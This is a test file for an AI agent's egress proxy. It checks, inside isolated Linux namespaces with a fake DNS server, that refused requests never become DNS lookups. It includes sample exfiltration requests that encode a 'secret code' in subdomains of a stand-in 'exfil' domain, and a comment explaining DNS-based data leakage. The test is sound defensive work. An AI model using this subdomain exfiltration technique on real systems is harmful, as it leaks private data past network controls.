// The egress proxy resolves only the names it lets through (docs/security.md#what-does-not-hold:
// "the proxy resolves the names it is asked for (only allowed ones), so an agent cannot send
// data in DNS queries of its own"). A refused request must never become a DNS query: a name
// like `<the private code>.exfil.example` would carry the data to that domain's name server.
//
// The proxy runs in a child process in network and mount namespaces of their own (Ralph as root,
// util-linux `unshare`): loopback alone, /etc/resolv.conf naming a DNS stand-in on 127.0.0.1:53
// there, and /etc/nsswitch.conf asking files, then DNS. The stand-in records every name asked
// and answers NXDOMAIN; it does not model recursion, search domains or TCP fallback (getaddrinfo
// asks it over UDP here). Nothing leaves the machine. Needs Linux, root, unshare and ip.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { requireRootWith } from './support/system-users.js';

const REPO = join(import.meta.dirname, '..');

// In the namespaces: the DNS stand-in, the proxy, and a client of it.
const CHILD = `
import { createSocket } from 'node:dgram';
import { connect, createServer } from 'node:net';
const { startEgressProxy } = await import(process.env.REPO + '/src/adapters/egress-proxy.ts');
const { networkPolicy, parseNetworkInput } = await import(process.env.REPO + '/src/core/network.ts');
const asked = [];
const dns = createSocket('udp4');
dns.on('message', (q, from) => {
  const labels = [];
  for (let i = 12; q[i] !== 0 && i < q.length; i += q[i] + 1) labels.push(q.subarray(i + 1, i + 1 + q[i]).toString());
  asked.push(labels.join('.'));
  // The same id and question; QR, RD, RA and NXDOMAIN; no answer.
  const a = Buffer.from(q);
  a[2] = 0x81; a[3] = 0x83;
  a.writeUInt16BE(0, 6); a.writeUInt16BE(0, 8); a.writeUInt16BE(0, 10);
  dns.send(a.subarray(0, q.length - (q.readUInt16BE(10) > 0 ? 11 : 0)), from.port, from.address);
});
await new Promise((r) => dns.bind(53, '127.0.0.1', r));
const policy = networkPolicy({ input: parseNetworkInput('allowed.ralph-dns.test') });
const proxy = await startEgressProxy({ policy });
const server = createServer((s) => proxy.accept(s));
await new Promise((r) => server.listen(0, '127.0.0.1', r));
const ask = (head) => new Promise((done) => {
  const s = connect(server.address().port, '127.0.0.1');
  let got = '';
  s.on('data', (d) => { got += d; if (got.includes('\\r\\n')) { done(got.split('\\r\\n')[0]); s.destroy(); } });
  s.on('error', (e) => done(e.code));
  s.write(head);
});
const out = {
  connect: await ask('CONNECT secret-code-1.exfil.ralph-dns.test:443 HTTP/1.1\\r\\nHost: secret-code-1.exfil.ralph-dns.test:443\\r\\n\\r\\n'),
  plain: await ask('GET http://secret-code-2.exfil.ralph-dns.test/ HTTP/1.1\\r\\nHost: secret-code-2.exfil.ralph-dns.test\\r\\n\\r\\n'),
  otherPort: await ask('CONNECT allowed.ralph-dns.test:8443 HTTP/1.1\\r\\nHost: allowed.ralph-dns.test:8443\\r\\n\\r\\n'),
  allowed: await ask('CONNECT allowed.ralph-dns.test:443 HTTP/1.1\\r\\nHost: allowed.ralph-dns.test:443\\r\\n\\r\\n'),
};
out.asked = [...new Set(asked)].sort();
out.refused = proxy.refused();
console.log(JSON.stringify(out));
await proxy.close();
server.close();
dns.close();
`;

let tmp = '';

beforeAll(() => {
  requireRootWith(
    'The egress proxy DNS test',
    [
      ['unshare', '--version'],
      ['ip', '-V'],
    ],
    'apt-get install -y util-linux iproute2',
  );
  tmp = mkdtempSync(join(tmpdir(), 'ralph-egress-dns-'));
  writeFileSync(join(tmp, 'resolv.conf'), 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n');
  writeFileSync(join(tmp, 'nsswitch.conf'), 'hosts: files dns\n');
  writeFileSync(join(tmp, 'child.mjs'), CHILD);
});

afterAll(() => {
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

describe("Ralph's egress proxy and DNS", () => {
  it('never resolves a name it refuses: a refused request asks no name server anything', () => {
    const script = [
      'set -e',
      'ip link set lo up',
      `mount --bind ${join(tmp, 'resolv.conf')} /etc/resolv.conf`,
      `mount --bind ${join(tmp, 'nsswitch.conf')} /etc/nsswitch.conf`,
      `exec ${process.execPath} --import tsx ${join(tmp, 'child.mjs')}`,
    ].join('\n');
    const r = spawnSync('unshare', ['--net', '--mount', '--', 'sh', '-c', script], {
      cwd: REPO,
      env: { ...process.env, REPO },
      encoding: 'utf8',
      timeout: 60_000,
    });
    expect(r.status, r.stderr).toBe(0);
    const out = JSON.parse(r.stdout.trim().split('\n').at(-1)!);
    expect(out.connect).toMatch(/^HTTP\/1\.1 403 /);
    expect(out.plain).toMatch(/^HTTP\/1\.1 403 /);
    expect(out.otherPort).toMatch(/^HTTP\/1\.1 403 /);
    // The allowed name was looked up (the stand-in sees what the proxy asks), and found nowhere.
    expect(out.allowed).toMatch(/^HTTP\/1\.1 502 /);
    expect(out.asked).toEqual(['allowed.ralph-dns.test']);
    expect(out.refused).toHaveLength(3);
  });
});
